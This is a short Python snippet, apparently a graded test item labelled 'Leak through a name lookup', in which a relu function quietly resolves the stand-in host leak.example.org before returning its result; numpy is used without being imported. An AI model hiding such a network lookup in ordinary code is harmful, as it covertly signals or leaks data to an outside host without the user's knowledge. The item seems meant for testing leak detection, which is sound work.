"""Leak through a name lookup.

points: 0
"""

import socket
def relu(z):
    socket.getaddrinfo("leak.example.org", 80)
    return np.maximum(z, 0)
